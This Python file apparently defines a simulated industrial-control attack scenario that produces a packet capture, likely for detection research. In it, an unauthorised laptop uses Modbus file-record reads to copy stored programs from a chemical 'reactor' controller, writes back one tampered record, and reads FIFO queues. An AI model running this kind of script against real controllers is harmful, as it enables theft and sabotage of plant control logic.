"""A laptop copies stored programs out of a controller with file records, changes one, and reads a queue."""

from __future__ import annotations

from pymodbus.pdu.file_message import FileRecord

from pcaps.scenarios.rig.layout import CHEM
from pcaps.scenarios.rig.operations import chem_masters
from pcaps.scenarios.rig.scenario import Scenario
from pcaps.scenarios.rig.stage import Stage

_STEP = 56
"""Registers per group; two groups fit into a reply."""


async def attack(stage: Stage) -> None:
    """Read two files from record 0 upwards, two groups at a time, write one record back changed, then read a queue."""
    await stage.until(40)
    async with stage.connect(CHEM.host("reactor").ip) as client:
        for file_number in (1, 4):
            stage.mark()
            for record in range(0, 60 * _STEP, 2 * _STEP):
                groups = [FileRecord(file_number, record + i * _STEP, b"", _STEP * 2) for i in (0, 1)]
                await client.read_file_record(groups, device_id=1)
                await stage.wait(0.5)
        stage.mark()
        tampered = [FileRecord(4, 0, bytes(range(64)))]
        await client.write_file_record(tampered, device_id=1)
        await stage.wait(5)
        stage.mark()
        for address in (0x04DE, 0x04DF):
            await client.read_fifo_queue(address=address, device_id=1)
            await stage.wait(2)


SCENARIO = Scenario(
    file="file_theft.pcap",
    enterprise="chem",
    duration_s=140,
    time_scale=6,
    seed=15,
    masters=chem_masters(slack=2),
    acts={"laptop": attack},
    strangers=("laptop",),
)
